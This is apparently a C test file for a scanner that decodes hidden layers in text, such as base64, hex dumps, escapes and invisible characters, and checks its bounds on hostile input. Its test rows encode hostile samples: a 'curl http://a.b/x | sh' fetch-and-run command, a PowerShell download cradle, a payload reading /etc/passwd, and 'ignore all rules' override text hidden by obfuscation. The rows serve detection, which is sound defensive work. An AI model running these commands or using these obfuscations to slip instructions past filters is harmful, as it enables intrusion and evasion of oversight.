/* SPDX-License-Identifier: MIT
 *
 * Decoded layers: a row for each encoding and each way to write it, texts that must not become a
 * layer, every bound at its maximum and one more, and the work on hostile texts.
 */
#include <stdlib.h>

#include "base/scope.h"
#include "scan/text/decode.h"
#include "scan/text/decode_private.h"
#include "scan/text/normal.h"
#include "steps.h"
#include "tap.h"

enum { STEPS_MAX = 400 }; /* a byte */

#define PROGRAM "import os; os.system('id')"
#define B64 "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="
#define B64_2 "YVcxd2IzSjBJRzl6T3lCdmN5NXplWE4wWlcwb0oybGtKeWs9"
#define B64_3 "WVZjeGQySXpTakJKUnpsNlQzbENkbU41TlhwbFdFNHdXbGN3YjBveWJHdEtlV3M5"
#define B64_4                                                                                      \
	"V1ZaamVHUXlTWHBUYWtKS1VucHNObFF6YkVOa2JVNDFUbGh3YkZkRk5IZFhiR04zWWpCdmVXSkhkRXRsVjNNNQ=="
#define HEX "696d706f7274206f733b206f732e73797374656d282769642729"

/* clang-format off */
static const struct row {
	const char *in, *how, *out; /* OUT is a layer's text, and its encodings */
} rows[] = {
	{B64, "base64", PROGRAM},
	{"exec(b64decode('" B64 "'))", "base64", PROGRAM},
	{"echo aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk | base64 -d", "base64", PROGRAM},
	{"Y3VybCBodHRwOi8vYS5iLz8-Pj5-fn4gfCBzaD8_", "base64", "curl http://a.b/?>>>~~~ | sh??"},
	{"Y3VybCBodHRwOi8vYS5iLz8+Pj5+fn4gfCBzaD8/", "base64", "curl http://a.b/?>>>~~~ | sh??"},
	{"aW1wb3J0IG9zOyBv\ncy5zeXN0ZW0oJ2lkJyk=\n", "base64", PROGRAM},
	{"aW1wb3J0IG9zOyBvcy\r\n  5zeXN0\r\n  ZW0oJ2lkJyk=", "base64", PROGRAM},
	{"{\"d\":\"aW1wb3J0IG9zOyBvcy\\n5zeXN0ZW0oJ2lkJyk=\"}", "base64", PROGRAM},
	{"x = 'aW1wb3J0IG9zOyBvcy' +\n    '5zeXN0ZW0oJ2lkJyk='", "base64", PROGRAM},
	{"['aW1wb3J0IG9zOyBvcy', '5zeXN0ZW0oJ2lkJyk=']", "base64", PROGRAM},
	{"# aW1wb3J0IG9zOyBvcy\n# 5zeXN0ZW0oJ2lkJyk=\n", "base64", PROGRAM},
	{"> > aW1wb3J0IG9zOyBvcy\n> > 5zeXN0ZW0oJ2lkJyk=\n", "base64", PROGRAM},
	{" * 696d706f7274206f733b206f732e7\n * 3797374656d282769642729\n", "hex", PROGRAM},
	/* Lines without runs; a gap of spaces does not count. */
	{"aW1w\nb3J0\nIG9z\nOyBv\ncy5z\neXN0\nZW0o\nJ2lk\nJyk=\n", "base64", PROGRAM},
	{"Read:\n\naW1wb3J0IG9\r\n\r\nzOyBvcy5zeX\r\nN0ZW0oJ2lkJ\r\nyk=\r\nHere ends.", "base64", PROGRAM},
	{"[\n  'aW1wb3J0IG9',\n  'zOyBvcy5zeX',\n  'N0ZW0oJ2lkJ',\n  'yk='\n]", "base64", PROGRAM},
	{"aW1w\nb3J0\nIG9z\nOyBv\ncw==\naW1w\nb3J0\nIG9z\nOyBv\ncy5z\neXN0\nZW0o\nJ2lk\nJyk=\n",
	 "base64", PROGRAM},
	{"696d706f\n7274206f\n733b206f\n732e7379\n7374656d\n28276964\n2729\n", "hex", PROGRAM},
	{"aW1wb3J0IG9zOyBvcy\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n"
	 "\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n5zeXN0ZW0oJ2lkJyk=",
	 "base64", PROGRAM},
	/* A harmless piece that ends in the middle of a byte. */
	{"dGhpcyBpcyBhIGxvbmcgYW5kIGhhcm1sZXNzIHRleHQgdGhhdCBzdGFuZHMgYmVmb3JlIGl0LCBhIGxvbmcgYW5kIGhhcm1"
	 "sZXNzIHRleHQgdGhhdCBzdGFuZHMgYmVmb3JlIGl\n" B64, "base64", PROGRAM},
	/* Letters directly before it: one, two, three. */
	{"Q" B64, "base64", NULL}, {"QQ" B64, "base64", NULL}, {"QQQ" B64, "base64", NULL},
	/* A list whose other parts are unrelated. */
	{"['getElementsByClassName9', '" B64 "', 'x']", "base64", NULL},
	{"['getElementsByClassName9getElementsByClassName9getElementsByClassNames', '" B64 "']",
	 "base64", NULL},
	{"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
	 "base64+utf-16", "IEX (New-Object Net.WebClient)"},
	{"AEkARQBYACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAAp",
	 "base64+utf-16", "IEX (New-Object Net.WebClient)"},
	{"gANjAQL//gCAA2MBAv/+AIADYwEC//4AgANjAQL//gCAA2MBAv/+AIADYwEC//4AgANjAQL//gCAA2MBAv/+AHBvc2l4"
	 "CnN5c3RlbQpxAFgLAAAAY2F0IC9ldGMvcGFzc3dkhf/+AAGF//4AAYX//gABhf/+AAGF//4AAYX//gAB",
	 "base64", "posix\nsystem\nq\ncat /etc/passwd"},
	{HEX, "hex", PROGRAM}, {"bytes.fromhex('" HEX "')", "hex", PROGRAM}, {"0x" HEX, "hex", PROGRAM},
	{"key_" HEX, "hex", PROGRAM}, {"a" HEX, "hex", PROGRAM},
	{"696D706F7274206F733B206F732E\n73797374656D282769642729", "hex", PROGRAM},
	{"{0x69, 0x6d, 0x70, 0x6f, 0x72, 0x74, 0x20, 0x6f, 0x73}", "hex list", "import os"},
	{"69 6d 70 6f 72 74 20 6f 73", "hex list", "import os"},
	{"69:6D:70:6F:72:74:20:6F:73", "hex list", "import os"},
	{"String.fromCharCode(105,109,112,111,114,116,32,111,115)", "number list", "import os"},
	{"[105, 109, 112, 111,\n 114, 116, 32, 111, 115]", "number list", "import os"},
	{"696d 706f 7274 206f 73", "hex list", "import o"}, {"696d706f 7274206f", "hex list", "import o"},
	/* Few lower-case letters, and few letters at all. */
	{"73 48 20 2d 43 20 22 4c 53 22", "hex list", "sH -C \"LS\""},
	{"73,104,32,45,99,32,34,49,50,51,52,53,54,55,56,57,48,34,35,35,35,35,108,115,47,66,105,110",
	 "number list",
	 "Ih -c \"1234567890\"####ls/Bin"},
	/* Dumps: xxd, xxd -g1, hexdump -C, od -tx1, od -tx1z, od -b, od -x. */
	{"00000000: 6375 726c 2068 7474 703a 2f2f 612e 622f  curl http://a.b/\n00000010: 7820 7c"
	 "20 7368 0a                        x | sh.\n",
	 "dump", "curl http://a.b/x | sh\n"},
	{"00000000: 63 75 72 6c 20 68 74 74 70 3a 2f 2f 61 2e 62 2f  curl http://a.b/\n00000010:"
	 " 78 20 7c 20 73 68 0a                             x | sh.\n",
	 "dump", "curl http://a.b/x | sh\n"},
	{"see\n00000000  63 75 72 6c 20 68 74 74  70 3a 2f 2f 61 2e 62 2f  |curl http://a.b/|\r"
	 "\n00000010  78 20 7c 20 73 68 0a                              |x | sh.|\n00000017\n",
	 "dump", "curl http://a.b/x | sh\n"},
	{"0000000 63 75 72 6c 20 68 74 74 70 3a 2f 2f 61 2e 62 2f\n0000020 78 20 7c 20 73 68 0a\n0000027\n",
	 "dump", "curl http://a.b/x | sh\n"},
	{"000000 63 75 72 6c 20 68 74 74 70 3a 2f 2f 61 2e 62 2f  >curl http://a.b/<\n000010 78 "
	 "20 7c 20 73 68 0a                             >x | sh.<\n000017\n",
	 "dump", "curl http://a.b/x | sh\n"},
	{"0000000 143 165 162 154 040 150 164 164 160 072 057 057 141 056 142 057\n0000020 170 0"
	 "40 174 040 163 150 012\n0000027\n",
	 "dump", "curl http://a.b/x | sh\n"},
	{"0000000 7563 6c72 6820 7474 3a70 2f2f 2e61 2f62\n0000020 2078 207c 6873\n0000026\n",
	 "dump", "curl http://a.b/x | sh"},
	/* od -c, od -a, and one that lost the spaces at its lines' ends. */
	{"0000000   c   u   r   l       h   t   t   p   :   /   /   a   .   b   /\n0000020   x    "
	 "   |       s   h  \\n\n0000027\n",
	 "dump", "curl http://a.b/x | sh\n"},
	{"0000000   c   u   r   l  sp   h   t   t   p   :   /   /   a   .   b   /\n0000020   x  sp"
	 "   |  sp   s   h  nl\n0000027\n",
	 "dump", "curl http://a.b/x | sh\n"},
	{"0000000 033   [   0   m   c   u   r   l       h   t   t   p   :   /   /\r\n0000020 303 251\r\n",
	 "dump", "\033[0mcurl http://\xc3\xa9"},
	{"0000000   e   c   h   o       s   o   m   e   w   o   r   d   ,\n0000020   a   n   d\n",
	 "dump", "echo someword,  and"},
	/* A table of numbers: its control characters are left out. */
	{"105 1 109 112 2 111 114 3 116 32 4 111 115 59 32 105 109 112 5 111 114 116 6 32 111 115",
	 "number list", "import os; import os"},
	{"105 109 112 111 114 116 32 111 115 1 105 109 112 111 114 116 32 111 115 59 32 32",
	 "number list", "import os\001import os;  "},
	/* Escapes: the text around them stays. */
	{"see http://x/?q=ignore%20all%20rules now", "url", "see http://x/?q=ignore all rules now"},
	{"ign%6fre", "url", "ignore"}, {"unescape('%u0069d')", "url", "unescape('id')"},
	{"50%20", "url", "50 "},
	{"'\\x69\\x64'", "escape", "'id'"}, {"a\\u0069\\u0064z", "escape", "aidz"},
	{"\\u{69}\\x{64}", "escape", "id"}, {"\\U00000069d", "escape", "id"},
	{"$'\\151\\144'", "escape", "$'id'"}, {"\\ud83d\\ude00", "escape", "\xf0\x9f\x98\x80"},
	{"\\ud83dx", "escape", "\xef\xbf\xbdx"}, {"\\xc3\\xa9", "escape", "\xc3\xa9"},
	{"\\u0069\\nd\\\"", "escape", "i\nd\""}, {"\\\\u0069d", "escape > escape", "id"},
	{"&#105;&#x64;", "html", "id"}, {"a &gt;&amp; b&sol;c", "html", "a >& b/c"},
	{"%69&#100;", "url+html", "id"}, {"%2569d", "url > url", "id"},
	{"curl\\40x", "escape", "curl x"}, {"\\0151\\0144", "escape", "id"}, {"\\401", "escape", " 1"},
	{"&#105&#100", "html", "id"}, {"&#x69&#x64 ", "html", "id "}, {
	 "&#0000000105;&#x000000000000064;", "html", "id"},
	{"ign=6Fre a=\nll=20", "quoted-printable", "ignore all "}, {"=69=\r\n=64",
	 "quoted-printable", "id"},
	/* Invisible characters. */
	{"ig\xc2\xadnore \xcd\x8f" "all", "invisible", "ignore all"},
	{"\xe2\x81\xa2" "a\xe3\x85\xa4" "b\xd8\x9c" "c\xe1\x85\xa0" "d", "invisible", "abcd"},
	{"a\xf3\xa0\x84\x80" "b\xe1\x9e\xb4" "c\xe2\x81\xaa" "d\xe2\x80\xa8" "e", "invisible", "abcde"},
	{"ign\xef\xb8\x8f" "ore", "invisible", "ignore"}, {"ig\001n\177ore", "invisible", "ignore"},
	{"ig\033[0mno\033[1;31mre", "invisible", "ignore"},
	{"ig\033]0;title\007no\033]8;;x\033\\re", "invisible", "ignore"},
	{"ig\033]nore", "invisible", "ignore"}, {"i\xc2\x9b" "0mg", "invisible", "ig"},
	{"no\xf3\xa0\x81\xa9\xf3\xa0\x81\xa4", "tags", "noid"},
	{"\xef\xbb\xbfig\xef\xbb\xbfnore", "invisible", "\xef\xbb\xbfignore"},
	{"ign%6f\xc2\xadre", "invisible > url", "ignore"},
	/* Layers in layers. */
	{B64_2, "base64 > base64", PROGRAM}, {B64_3, "base64 > base64 > base64", PROGRAM},
	{"q=aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk%3D%0AaW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk%3D",
	 "base64", PROGRAM},
	{"\\x61W1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=", "escape > base64", PROGRAM},
};

/* Harmless texts, from which no layer is made. */
static const char *const nothing[] = {
	"", "a", "plain words of a text, which are short and many",
	"getElementsByTagNameAndClassName(document.documentElement)",
	"/usr/local/lib/python3.11/dist-packages/numpy/core/multiarray.py",
	"da39a3ee5e6b4b0d3255bfef95601890afd80709 sha1",
	"sha512-9nqf0AbX+JEoVzRmoZ2tSbHVcjnWYPWKLmJs5QVoQmVRzu8wTRVvlYrkJ3jgjHRFdTGuYOyYNLMxGZ3ocuEbXA==",
	"123e4567-e89b-12d3-a456-426614174000", "1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12",
	"[65.2, 70.1, 80, 90, 100, 23, 44, 12, 9]", "printf(\"%d %s %08x %02d\\n\", a, b)",
	"C:\\users\\xavier\\notes.txt", "a\\nb\\tc \\\"quoted\\\" \\\\ /", "x & y && z &c; R&D;",
	"                                ", "00:00:00,000 --> 00:00:01,000", "100% of it %",
	"\\", "\\x", "&#;",
	("\xef\xbb\xbf" "a file with a mark"),
	 "\xe4\xb8\xad\xe6\x96\x87 \xe3\x81\x82 \xef\xbc\xa1 \xc3\xa9 \xc2\xa0",
	"a\tb\r\n\v\f\xc2\x85", "\xe2\x80\x94 dashes \xe2\x80\x99 and quotes", "\xf0\x9f\x98\x80",
	"0000000 00 01 02 03 04 05 06 07 08 09 0a 0b 0c 0d 0e 0f\n", "00000000 curl",
	"20231115 12 30 45\n20231116 12 31 46\n", "33, 34, 35, 36, 37, 38, 39, 32, 33, 34, 35",
	"a=10", "x = 1; y = 2; z = 3; f(a=60, b=3B)", "f(x=default, y=bar, z=fa=\n", "a =\n b =\n",
	 "x = 10; y == 20", "a\\1b\\2 \\9", "&#0000;", "QQ=\n",
	"deadbeefcafebabe0123456789abcdef", "aGVsbG8=", "2023-11-15 2023-11-16 2023-11-17",
};
/* clang-format on */

static const struct decode_layer *find(const struct decode *d, const char *how, const char *out)
{
	for (size_t i = 0; i < d->count; i++) {
		const struct decode_layer *l = &d->list[i];
		if (!strcmp(l->how, how) &&
		    (!out || (l->len == strlen(out) && !memcmp(l->data, out, l->len))))
			return l;
	}
	return NULL;
}

static void show(const struct decode *d)
{
	for (size_t i = 0; i < d->count; i++)
		printf("# %s: %.*s\n", d->list[i].how, (int)d->list[i].len, d->list[i].data);
}

static void test_rows(void)
{
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		struct decode d;
		struct err err;
		size_t len = strlen(rows[i].in);
		int result = decode_layers(rows[i].in, len, NULL, &d, &err);
		const struct decode_layer *l = result ? NULL : find(&d, rows[i].how, rows[i].out);
		if (!ok(l && (rows[i].out || memmem(l->data, l->len, "os.system('id')", 15)) &&
				d.bound == DECODE_COMPLETE,
			"row %zu: %s of %.50s", i, rows[i].how, rows[i].in))
			show(&d);
		decode_done(&d);
	}
	for (size_t i = 0; i < ARRAY_SIZE(nothing); i++) {
		struct decode d;
		struct err err;
		if (!ok(decode_layers(nothing[i], strlen(nothing[i]), NULL, &d, &err) == 0 &&
				!d.count,
			"no layer in %.60s", nothing[i]))
			show(&d);
		decode_done(&d);
	}
}

static void test_places(void)
{
	static const char text[] = "first " HEX " then " B64_2 " and " HEX;
	struct decode d;
	struct err err;

	ok(decode_layers(text, strlen(text), NULL, &d, &err) == 0, "places: decoded");
	const struct decode_layer *l = find(&d, "hex", PROGRAM);
	ok(l && l->parent == DECODE_NO_PARENT && l->offset == 6 && l->span == strlen(HEX) &&
		   l->depth == 1,
	   "a layer has its place");
	l = find(&d, "base64", B64);
	ok(l && l->offset == 6 + strlen(HEX) + 6, "the second one too");
	/* PROGRAM is in the list already. */
	ok(d.count == 2 && d.bytes == strlen(PROGRAM) + strlen(B64), "no layer is listed twice");
	decode_done(&d);
}

static bool bounded(const char *text, const struct decode_limits *limits, enum decode_bound bound,
		    size_t count)
{
	struct decode d;
	struct err err;
	bool good = decode_layers(text, strlen(text), limits, &d, &err) == 0 && d.bound == bound &&
		    d.count == count;

	if (!good)
		printf("# %zu layers, bound %s\n", d.count, decode_bound_name(d.bound));
	decode_done(&d);
	return good;
}

enum { NUMBERS = DECODE_NUMBERS_MIN + 2 };

/* The I-th list and its contents. */
static char *put_list(char *p, size_t i, char *ret_content)
{
	for (int k = 0; k < NUMBERS; k++) {
		ret_content[k] = (char)('e' + (i >> (2 * k) & 3));
		p += sprintf(p, "%d%c", ret_content[k], k + 1 == NUMBERS ? '|' : ',');
	}
	return p;
}

/* COUNT different lists. */
static char *many(size_t count)
{
	char *text = malloc(count * 5 * NUMBERS + 1), *p = text, content[NUMBERS];

	for (size_t i = 0; i < count; i++)
		p = put_list(p, i, content);
	*p = '\0';
	return text;
}

/* The decoder's hash, for contents of this length. */
static uint64_t hash_of(const char *content)
{
	uint64_t hash = 0xcbf29ce484222325ULL ^ NUMBERS, word;

	for (size_t i = 0; i < NUMBERS; i += sizeof(word)) {
		word = 0;
		memcpy(&word, content + i, NUMBERS - i < sizeof(word) ? NUMBERS - i : sizeof(word));
		hash = (hash ^ word) * 0x100000001b3ULL;
		hash ^= hash >> 32;
	}
	hash = (hash ^ hash >> 29) * 0x9e3779b97f4a7c15ULL;
	return hash ^ hash >> 32;
}

/* COUNT different lists with one place in a hash table of up to 256, then the last of them
 * again. */
static char *chained(size_t count)
{
	char *text = malloc((count + 1) * 5 * NUMBERS + 1), *p = text, *last = text;
	char content[NUMBERS];

	for (size_t i = 0; count; i++) {
		char *end = put_list(p, i, content);
		if (hash_of(content) % 256)
			continue;
		last = p;
		p = end;
		count--;
	}
	size_t len = (size_t)(p - last);
	memcpy(p, last, len);
	p[len] = '\0';
	return text;
}

/* A chain of collisions is followed only so far: the work stays small, and a layer is listed
 * twice. */
static void test_chain(void)
{
	enum { PROBES = 64 };
	AUTO_FREE char *most = chained(PROBES), *over = chained(PROBES + 1);

	ok(bounded(most, NULL, DECODE_COMPLETE, PROBES), "%d layers of one hash", PROBES);
	ok(bounded(over, NULL, DECODE_COMPLETE, PROBES + 2), "one more is not compared");
}

static void test_bounds(void)
{
	size_t bytes = strlen(PROGRAM);
	AUTO_FREE char *most = many(DECODE_COUNT_MAX), *over = many(DECODE_COUNT_MAX + 1);

	ok(bounded(B64_3, NULL, DECODE_COMPLETE, DECODE_DEPTH_MAX), "the deepest");
	ok(bounded(B64_4, NULL, DECODE_DEPTH, DECODE_DEPTH_MAX), "one deeper reaches the bound");
	ok(bounded(B64, &(struct decode_limits){.bytes = bytes}, DECODE_COMPLETE, 1),
	   "the most bytes");
	ok(bounded(B64, &(struct decode_limits){.bytes = bytes - 1}, DECODE_BYTES, 0),
	   "one byte more reaches the bound");
	ok(bounded(most, &(struct decode_limits){.count = DECODE_COUNT_MAX}, DECODE_COMPLETE,
		   DECODE_COUNT_MAX),
	   "the most layers");
	ok(bounded(over, &(struct decode_limits){.count = DECODE_COUNT_MAX}, DECODE_COUNT,
		   DECODE_COUNT_MAX),
	   "one layer more reaches the bound");
	/* The default grows with the text's length. */
	ok(bounded(over, NULL, DECODE_COMPLETE, DECODE_COUNT_MAX + 1),
	   "a longer text may have more");
	free(most);
	free(over);
	most = many(DECODE_COUNT_MOST);
	over = many(DECODE_COUNT_MOST + 1);
	ok(bounded(most, NULL, DECODE_COMPLETE, DECODE_COUNT_MOST), "the most of any text");
	ok(bounded(over, NULL, DECODE_COUNT, DECODE_COUNT_MOST), "one more reaches the bound");
	ok(bounded("7072696e74282778", NULL, DECODE_COMPLETE, 1), "the shortest run");
	ok(bounded("7072696e7428277", NULL, DECODE_COMPLETE, 0), "one character less");
	ok(bounded("112 114 105 110 116 32 105 116", NULL, DECODE_COMPLETE, 1),
	   "the shortest list");
	ok(bounded("114 105 110 116 32 105 116", NULL, DECODE_COMPLETE, 0), "one number less");
	ok(!strcmp(decode_bound_name(DECODE_COUNT), "layers"), "every bound has a name");
}

static void test_gap(void)
{
	char marks[DECODE_GAP_MAX + 2] = "";

	memset(marks, '\'', DECODE_GAP_MAX + 1);
	for (int more = 0; more < 2; more++) {
		char text[256];
		struct decode d;
		struct err err;
		sprintf(text, "aW1wb3J0IG9zOyBvcy\n\n%s5zeXN0ZW0oJ2lkJyk=", marks + !more);
		decode_layers(text, strlen(text), NULL, &d, &err);
		ok((find(&d, "base64", PROGRAM) != NULL) != more, "a gap of %d characters",
		   DECODE_GAP_MAX + more);
		decode_done(&d);
	}
}

/* A terminal command that is too long is ordinary text. */
static void test_terminal(void)
{
	for (int more = 0; more < 2; more++) {
		char text[DECODE_TERMINAL_MAX + 16];
		struct decode d;
		struct err err;
		sprintf(text, "a\033]%0*d\007b", DECODE_TERMINAL_MAX + more, 0);
		decode_layers(text, strlen(text), NULL, &d, &err);
		ok((find(&d, "invisible", "ab") != NULL) != more, "a command of %d characters",
		   DECODE_TERMINAL_MAX + more);
		decode_done(&d);
		sprintf(text, "a\033[%0*dmb", DECODE_TERMINAL_MAX + more, 0);
		decode_layers(text, strlen(text), NULL, &d, &err);
		ok((find(&d, "invisible", "ab") != NULL) != more, "parameters of %d characters",
		   DECODE_TERMINAL_MAX + more);
		decode_done(&d);
	}
}

static void test_size(void)
{
	AUTO_FREE char *text = calloc(1, NORMAL_TEXT_MAX + 1);
	struct decode d;
	struct err err;

	if (getenv("TEST_MORE")) { /* six seconds */
		ok(text && decode_layers(text, NORMAL_TEXT_MAX, NULL, &d, &err) == 0,
		   "the longest text");
		decode_done(&d);
	}
	ok(text && decode_layers(text, NORMAL_TEXT_MAX + 1, NULL, &d, &err) < 0 &&
		   err.code == ERR_LIMIT,
	   "a longer one is an error");
}

/* The work on a text of LEN bytes made of PIECE. */
static uint64_t work(const char *piece, size_t len)
{
	AUTO_FREE char *text = malloc(len);
	size_t n = strlen(piece);
	struct decode d;
	struct err err;

	/* Whole pieces: part of one at the end may be another text. */
	len -= len % n;
	for (size_t i = 0; text && i < len; i++)
		text[i] = piece[i % n];
	uint64_t begin = steps;
	if (!text || decode_layers(text, len, NULL, &d, &err) < 0)
		return UINT64_MAX;
	uint64_t end = steps;
	decode_done(&d);
	return end - begin;
}

static const char *const pieces[] = {"%",
				     "A",
				     "\\x41",
				     "\\",
				     "&",
				     "&#65;",
				     "%41",
				     "%25",
				     "\\\\",
				     "AAAA\n",
				     "'AAAA'+",
				     "0x41,",
				     "41 ",
				     "65,",
				     "0",
				     " ",
				     "\n",
				     "41",
				     "\\u0041",
				     "Aa0_-/+",
				     "QUFB",
				     "AAAAAAAAAAAAAAAA ",
				     "AAAAAAAAAAAAAAAA\n# ",
				     "AAAAAAAAAAAAAAAA\n>>>>>>>>>>>>",
				     "AAAAAAAAAAAAAAAA\n\n\n\n\n\n\n\n\n\n\n\n\n\n",
				     B64,
				     B64_4,
				     HEX " ",
				     "AAAAAAAAAAAAAAA ",
				     "&aaaaaaaaaaa",
				     "\xff",
				     "\xc3\xa9",
				     "gANjAQL//gCAA2MB",
				     "\\ud83d",
				     "''''''''",
				     "%u0041",
				     "\033",
				     "QUFB\nQUFB\n",
				     "=",
				     "=41",
				     "=3D",
				     "=\n",
				     "&#0",
				     "\\40",
				     "00000000 4141 4141 4141 4141 4141\n",
				     "4141 ",
				     "AAAA=\n",
				     "AAAA\n-- \n",
				     "\033]",
				     "\033[0",
				     "a\xc2\xad",
				     "\xe2\x80\x8b",
				     "\xf3\xa0\x81\xa9",
				     "0x41 0x41 0x41 0x41 0x41 0x41 0x41 0x41 z"};

/* A text of eight times the length is eight times the work, whatever its content. */
static void test_work(void)
{
	for (size_t i = 0; i < ARRAY_SIZE(pieces); i++) {
		uint64_t small = work(pieces[i], 64 << 10), large = work(pieces[i], 512 << 10);
		ok(small && large <= small / 4 * 5 * 8 && large < (uint64_t)STEPS_MAX << 19,
		   "512 KB of \"%.40s\": %.2f steps a byte (%.2f in an eighth)", pieces[i],
		   (double)large / (512 << 10), (double)small / (64 << 10));
	}
}

int main(void)
{
	test_rows();
	test_places();
	test_bounds();
	test_chain();
	test_gap();
	test_terminal();
	test_size();
	test_work();
	return tap_done();
}
